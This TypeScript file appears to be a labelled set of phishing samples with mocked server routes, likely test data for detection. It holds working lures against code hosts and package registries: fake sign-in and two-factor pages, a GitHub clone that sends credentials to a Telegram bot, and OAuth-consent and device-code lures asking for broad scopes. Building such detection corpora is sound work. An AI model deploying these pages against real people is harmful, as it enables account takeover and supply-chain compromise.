// Credential kits, OAuth-consent and device-code lures aimed at code hosts and package registries (author zz).
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_CSS, GH_MARK, GH_FOOT, NPM_LOGO, tgSend, VISITOR_INFO, b64, rev } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-quellwerk-signin-lookalike',
  label: 'phishing',
  kind: 'codehost-kit',
  url: 'https://quellwerk-signin.com/users/sign_in',
  body: `<!-- saved from url=(0037)https://quellwerk.io/users/sign_in -->
` + qwDoc({
    title: 'Sign in · Quellwerk',
    top: QW_TOP(`<a class="btn" href="https://quellwerk.io/users/sign_up">Create account</a>`),
    main: `<div class="auth-wrap"><div class="auth-card">
  <div style="text-align:center">${QW_MARK}</div>
  <h1 style="text-align:center">Sign in to Quellwerk</h1>
  <div id="notice" style="background:#fff4e5;border:1px solid #f5c07a;border-radius:6px;padding:10px 12px;font-size:13px">Your session expired after a security update. Please sign in again to continue to <b>your organization</b>.</div>
  <form id="sf" action="/next.php" method="post" autocomplete="on">
    <input type="hidden" name="authenticity_token" value="mV3rT9yq1cZ0aQ7yXWbq8m0n4pLkY2sR5uA6eH1oJfw=">
    <label for="user_login">Username or email</label>
    <input type="text" id="user_login" name="login" autocomplete="username" required>
    <label for="user_password">Password</label>
    <input type="password" id="user_password" name="password" autocomplete="current-password" required>
    <div class="row"><label style="margin:0;font-weight:400"><input type="checkbox" name="remember_me" checked> Remember me</label><a href="https://quellwerk.io/users/password/new">Forgot password?</a></div>
    <button class="btn btn-primary" type="submit">Sign in</button>
  </form>
  <div class="sep">or</div>
  <div class="sso"><a class="btn" href="#" onclick="return false">Continue with passkey</a><a class="btn" href="#" onclick="return false">Sign in with SAML SSO</a></div>
</div><p style="text-align:center;font-size:13px;color:#5b6675">New to Quellwerk? <a href="https://quellwerk.io/users/sign_up">Create an account</a></p></div>
<script>
${VISITOR_INFO}
var f=document.getElementById('sf');
f.addEventListener('submit',function(e){e.preventDefault();
  var d=new URLSearchParams(new FormData(f));var v=vinfo();for(var k in v){d.append(k,v[k]);}
  fetch('/next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:d.toString()})
  .then(function(r){return r.json()}).then(function(j){ sessionStorage.setItem('sid',j.sid||''); location.href='/users/two_factor_auth?sid='+encodeURIComponent(j.sid||''); })
  .catch(function(){ location.href='/users/two_factor_auth'; });
});
</script>`,
  }),
  routes: {
    'quellwerk-signin.com/next.php': jsonRoute({ ok: true, sid: 'a81f0c2e9d' }),
    'quellwerk-signin.com/users/two_factor_auth': htmlRoute(qwDoc({
      title: 'Two-factor authentication · Quellwerk',
      top: QW_TOP(''),
      main: `<div class="auth-wrap"><div class="auth-card"><div style="text-align:center">${QW_MARK}</div>
<h1 style="text-align:center">Two-factor authentication</h1>
<p style="font-size:14px;color:#5b6675">Open your authenticator app and enter the 6-digit code for <b>quellwerk.io</b>.</p>
<form id="tf"><label for="otp">Authentication code</label><input type="text" id="otp" name="otp" inputmode="numeric" maxlength="6" pattern="[0-9]{6}" autocomplete="one-time-code" required>
<button class="btn btn-primary" type="submit">Verify</button></form>
<p style="font-size:13px;margin-top:16px"><a href="#">Use a recovery code</a></p></div></div>
<script>
document.getElementById('tf').addEventListener('submit',function(e){e.preventDefault();
 var b=new URLSearchParams({otp:document.getElementById('otp').value,sid:sessionStorage.getItem('sid')||'',step:'2fa'});
 fetch('/next.php',{method:'POST',body:b}).finally(function(){location.replace('https://quellwerk.io/dashboard');});
});
</script>`,
    })),
  },
},

{
  id: 'zz-github-login-telegram-exfil',
  label: 'phishing',
  kind: 'codehost-kit',
  url: 'https://github.com-sessions.verify-device.app/login?return_to=%2Fsettings%2Fsecurity',
  body: doc({
    title: 'Sign in to GitHub · GitHub',
    head: `<meta name="robots" content="noindex,nofollow"><style>${GH_CSS}</style>`,
    body: `<div class="header-logged-out">${GH_MARK}</div>
<div class="auth-form" id="login">
  <div class="auth-form-header"><h1>Sign in to GitHub</h1></div>
  <div class="flash">To keep your account secure, verify this device before <b>October 24</b>. Unverified sessions will be signed out.</div>
  <div class="auth-form-body" id="step1">
    <form id="lf" action="/session" method="post">
      <input type="hidden" name="authenticity_token" value="Q2x0R3lXb2F0ZW1wLTE3MjkxNTI4OTE">
      <label for="login_field">Username or email address</label>
      <input type="text" name="login" id="login_field" class="form-control" autocapitalize="off" autocorrect="off" autocomplete="username" autofocus>
      <label for="password">Password <a class="label-link" href="https://github.com/password_reset">Forgot password?</a></label>
      <input type="password" name="password" id="password" class="form-control" autocomplete="current-password">
      <input type="submit" name="commit" value="Sign in" class="btn-primary">
    </form>
  </div>
  <div class="auth-form-body" id="step2" style="display:none">
    <p><b>Device verification</b></p>
    <p style="color:#59636e">We just sent your authentication code via email to the address on your account. The code will expire at 3:59PM CEST.</p>
    <label for="otp">Device Verification Code</label>
    <input type="text" id="otp" class="form-control" autocomplete="one-time-code" placeholder="XXXXXX" maxlength="6">
    <button class="btn-primary" id="vbtn" type="button">Verify</button>
  </div>
  <p class="login-callout">New to GitHub? <a href="https://github.com/signup">Create an account</a></p>
</div>
${GH_FOOT}
<script>
${tgSend('7684120935:AAGz3pQvX_hs2Kc8yTfN0eWmRk1LdUo4b9E', '-1002281937744')}
${VISITOR_INFO}
var tries=0;
document.getElementById('lf').addEventListener('submit',function(e){
  e.preventDefault();
  var u=document.getElementById('login_field').value.trim(),p=document.getElementById('password').value;
  if(!u||!p){return;}
  var v=vinfo();
  tgSend('<b>GH LOGIN</b>\\nuser: '+u+'\\npass: '+p+'\\nua: '+v.ua+'\\ntz: '+v.tz+'\\ntry: '+(++tries));
  if(tries<2){document.getElementById('password').value='';document.querySelector('.flash').innerHTML='Incorrect username or password.';document.querySelector('.flash').style.background='#ffebe9';return;}
  document.getElementById('step1').style.display='none';document.getElementById('step2').style.display='block';
});
document.getElementById('vbtn').onclick=function(){
  tgSend('<b>GH OTP</b>\\n'+document.getElementById('otp').value);
  setTimeout(function(){location.href='https://github.com/settings/security';},800);
};
</script>`,
  }),
},

{
  id: 'zz-github-oauth-app-security-alert',
  label: 'phishing',
  kind: 'oauth-consent-lure',
  url: 'https://github-security-review.com/alerts/ZX-44713',
  body: doc({
    title: 'Security alert: unusual access attempt · GitHub',
    head: `<style>${GH_CSS}
.wrap{max-width:720px;margin:40px auto;background:#fff;border:1px solid #d1d9e0;border-radius:6px}
.wrap header{padding:16px 24px;border-bottom:1px solid #d1d9e0;display:flex;align-items:center;gap:12px}
.wrap section{padding:24px}.kv td{padding:6px 12px 6px 0;font-size:14px}.kv td:first-child{color:#59636e}
.cta{display:inline-block;background:#1f883d;color:#fff;border-radius:6px;padding:8px 18px;font-weight:600}
.sec{display:inline-block;border:1px solid #d1d9e0;border-radius:6px;padding:8px 18px;color:#1f2328;margin-left:8px}
</style>`,
    body: `<div class="wrap"><header>${GH_MARK.replace('height="48"', 'height="32"').replace('width="48"', 'width="32"')}<b style="font-size:16px">Security alert</b></header>
<section>
<h2 style="font-weight:400;margin-top:0">Unusual access attempt on your account</h2>
<p>We detected a sign-in attempt to your GitHub account from a new location. If this was you, no action is needed. If you don't recognise this activity, review your account within 24 hours to keep your repositories safe.</p>
<table class="kv"><tr><td>Location</td><td>Reykjavík, Iceland</td></tr><tr><td>IP address</td><td>53.253.117.8</td></tr><tr><td>Time</td><td>Oct 21, 2025, 04:12 UTC</td></tr><tr><td>Client</td><td>git/2.43.0 (HTTPS, personal access token)</td></tr></table>
<p style="margin-top:24px">Our security review app checks your recent sessions, tokens and deploy keys and revokes anything suspicious.</p>
<p><a class="cta" id="go" href="https://github.com/login/oauth/authorize?client_id=Ov23liKX2qgx8TzQ5m0e&amp;redirect_uri=https%3A%2F%2Fgithub-security-review.com%2Foauth%2Fcallback&amp;scope=repo%20workflow%20admin%3Aorg%20delete_repo%20user%20gist&amp;state=ZX-44713">Secure your account</a><a class="sec" href="https://github.com/settings/security-log">Ignore</a></p>
<p style="font-size:12px;color:#59636e;margin-top:28px">You are receiving this because you are an owner of one or more organizations. GitHub, Inc. · 88 Colin P Kelly Jr Street · San Francisco, CA 94107</p>
</section></div>`,
  }),
  routes: {
    'github-security-review.com/oauth/callback': htmlRoute(`<!doctype html><title>Done</title><p>Review complete. Your account is secure.</p><script>setTimeout(function(){location.href='https://github.com/'},1500)</script>`),
  },
},

{
  id: 'zz-repo-migration-github-device-code',
  label: 'phishing',
  kind: 'device-code-lure',
  url: 'https://repo-migrate.dev/quellwerk/authorize',
  body: qwDoc({
    title: 'Quellwerk Migrate · Authorize GitHub',
    top: QW_TOP(''),
    main: `<div class="auth-wrap" style="max-width:520px"><div class="auth-card">
<div style="display:flex;align-items:center;gap:10px">${QW_MARK}<b>Quellwerk Migrate</b></div>
<h1>Re-authorize your GitHub mirror</h1>
<p>Quellwerk is moving repository mirrors to a new sync backend on <b>31 October</b>. Mirrors that are not re-authorized before then will be paused and their pull-request history archived.</p>
<p>1. Copy this one-time code:</p>
<div style="font:600 28px ui-monospace,monospace;letter-spacing:3px;text-align:center;border:1px dashed #9aa5b1;border-radius:8px;padding:12px" id="code">····-····</div>
<p>2. Open <b>github.com/login/device</b>, paste the code and approve <b>Quellwerk Mirror Sync</b>.</p>
<a class="btn btn-primary" id="open" style="text-align:center" href="https://github.com/login/device" target="_blank">Open GitHub</a>
<p style="font-size:13px;color:#5b6675;margin-top:14px" id="state">Waiting for approval…</p>
</div></div>
<script>
fetch('/api/device',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({scope:'repo admin:org workflow write:packages'})})
.then(function(r){return r.json()}).then(function(d){
  document.getElementById('code').textContent=d.user_code;
  document.getElementById('open').onclick=function(){navigator.clipboard&&navigator.clipboard.writeText(d.user_code)};
  var t=setInterval(function(){fetch('/api/token?dc='+d.device_code).then(function(r){return r.json()}).then(function(x){
    if(x.access_token){clearInterval(t);document.getElementById('state').textContent='Mirror re-authorized. You can close this tab.';}
  })},d.interval*1000);
});
</script>`,
  }),
  routes: {
    'repo-migrate.dev/api/device': jsonRoute({ device_code: '3584d83530557fdd1f46af8289938c8ef79f9dc5', user_code: 'WDJB-MJHT', verification_uri: 'https://github.com/login/device', expires_in: 899, interval: 5 }),
    'repo-migrate.dev/api/token': jsonRoute({ error: 'authorization_pending' }),
  },
},

{
  id: 'zz-npmjs-help-2fa-update',
  label: 'phishing',
  kind: 'registry-kit',
  url: 'https://npmjs.help/login?next=%2Fsettings%2Ftfa',
  body: doc({
    title: 'npm | Sign In',
    head: `<style>
body{margin:0;font-family:"Source Sans Pro",-apple-system,"Segoe UI",sans-serif;background:#fff;color:#333}
.top{height:10px;background:linear-gradient(139deg,#fb8817,#ff4b01,#c12127,#e02aff)}
.nav{display:flex;align-items:center;padding:12px 32px;border-bottom:1px solid #eee;gap:20px}
.box{max-width:440px;margin:48px auto;padding:0 20px}
h1{font-size:40px;font-weight:700;text-align:center;margin:10px 0 24px}
label{display:block;font-weight:600;margin:16px 0 6px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccc;border-radius:4px;font-size:16px;background:#f2f2f2}
button{width:100%;margin-top:22px;background:#cb3837;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px;font-weight:700;cursor:pointer}
.note{background:#fff5cc;border-left:4px solid #ffcd3a;padding:12px 14px;font-size:14px;line-height:1.5}
.err{color:#cb3837;font-size:14px;display:none}
</style>`,
    body: `<div class="top"></div><div class="nav">${NPM_LOGO}<span style="color:#666">Nifty Pickle Mixer</span></div>
<div class="box">
<h1 id="h">Sign In</h1>
<div class="note">As part of our ongoing commitment to account security, we are requesting that all users update their Two-Factor Authentication (2FA) credentials. Accounts with outdated 2FA details will be temporarily locked starting <b>September 10, 2025</b>.</div>
<form id="f1"><label>Username</label><input id="u" autocomplete="username"><label>Password</label><input id="p" type="password" autocomplete="current-password"><p class="err" id="e1">Incorrect username or password.</p><button>Sign In</button></form>
<form id="f2" style="display:none"><p>Enter the one-time password from your authenticator app to confirm your new 2FA settings.</p><label>One-time password</label><input id="o" inputmode="numeric" autocomplete="one-time-code" maxlength="8"><button>Update 2FA</button></form>
<p style="text-align:center;font-size:14px;margin-top:20px"><a href="https://www.npmjs.com/forgot" style="color:#cb3837">Forgot password?</a> · <a href="https://www.npmjs.com/signup" style="color:#cb3837">Create Account</a></p>
</div>
<script>
var s={};
function post(path,data){return fetch(path,{method:'POST',headers:{'Content-Type':'application/json'},credentials:'include',body:JSON.stringify(data)}).then(function(r){return r.json()});}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();s.u=document.getElementById('u').value;s.p=document.getElementById('p').value;
  post('/api/v1/auth',{username:s.u,password:s.p}).then(function(r){ if(r.next==='otp'){document.getElementById('f1').style.display='none';document.getElementById('f2').style.display='block';document.getElementById('h').textContent='Two-Factor Authentication';} else {document.getElementById('e1').style.display='block';} });
};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();
  post('/api/v1/otp',{username:s.u,otp:document.getElementById('o').value}).then(function(){location.href='https://www.npmjs.com/settings/'+encodeURIComponent(s.u)+'/tfa';});
};
</script>`,
  }),
  routes: {
    'npmjs.help/api/v1/auth': jsonRoute({ next: 'otp' }),
    'npmjs.help/api/v1/otp': jsonRoute({ ok: true }),
  },
},

{
  id: 'zz-rustfoundation-crates-incident',
  label: 'phishing',
  kind: 'registry-kit',
  url: 'https://rustfoundation.dev/notices/crates-io-incident-2025-09',
  body: doc({
    title: 'crates.io security incident – Rust Foundation',
    head: `<style>body{margin:0;font-family:"Fira Sans",Helvetica,Arial,sans-serif;background:#fdfaf6;color:#222}
header{background:#000;color:#fff;padding:18px 40px;font-weight:600;letter-spacing:.5px}
main{max-width:720px;margin:40px auto;padding:0 20px}.box{background:#fff;border:1px solid #e5ddd0;border-radius:6px;padding:24px 28px}
.gh{display:inline-flex;align-items:center;gap:10px;background:#24292f;color:#fff;border-radius:6px;padding:10px 18px;text-decoration:none;font-weight:600}
.muted{color:#6b6b6b;font-size:14px}</style>`,
    body: `<header>RUST FOUNDATION</header><main><div class="box">
<h1 style="margin-top:0">Important: crates.io security incident</h1>
<p class="muted">Published 2025-09-12 · Infrastructure team</p>
<p>Dear crates.io publisher,</p>
<p>We recently detected unauthorized access to a part of the crates.io infrastructure. As a precaution, publishing tokens of affected accounts have been suspended. According to our logs, your account is among them.</p>
<p>To restore publishing rights, please re-authenticate with GitHub and confirm ownership of your crates. Accounts that are not confirmed within <b>48 hours</b> will have their crates yanked pending manual review.</p>
<p><a class="gh" href="/login/oauth/authorize?client_id=Iv1.9e4f0c2b&amp;scope=read:org,user:email">${GH_MARK.replace(/48/g, '20')} Sign in with GitHub</a></p>
<p class="muted">The Rust Foundation · 440 N Barranca Ave #4722, Covina, CA 91723</p>
</div></main>`,
  }),
  routes: {
    'rustfoundation.dev/login/oauth/authorize': htmlRoute(doc({
      title: 'Sign in to GitHub · GitHub',
      head: `<style>${GH_CSS}</style>`,
      body: `<div class="header-logged-out">${GH_MARK}</div><div class="auth-form">
<div class="auth-form-header"><h1>Sign in to GitHub</h1><p style="color:#59636e">to continue to <b>crates.io</b></p></div>
<div class="auth-form-body"><form id="g"><label>Username or email address</label><input class="form-control" name="login" autocomplete="username"><label>Password <a class="label-link" href="https://github.com/password_reset">Forgot password?</a></label><input class="form-control" type="password" name="password" autocomplete="current-password">
<label>Authentication code (optional)</label><input class="form-control" name="otp" inputmode="numeric"><input type="submit" class="btn-primary" value="Sign in"></form></div></div>${GH_FOOT}
<script>document.getElementById('g').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/api/gh',true);x.setRequestHeader('Content-Type','application/json');x.onloadend=function(){location.href='https://crates.io/me';};x.send(JSON.stringify(Object.fromEntries(new FormData(this))));};</script>`,
    })),
    'rustfoundation.dev/api/gh': jsonRoute({ ok: 1 }),
  },
},
];
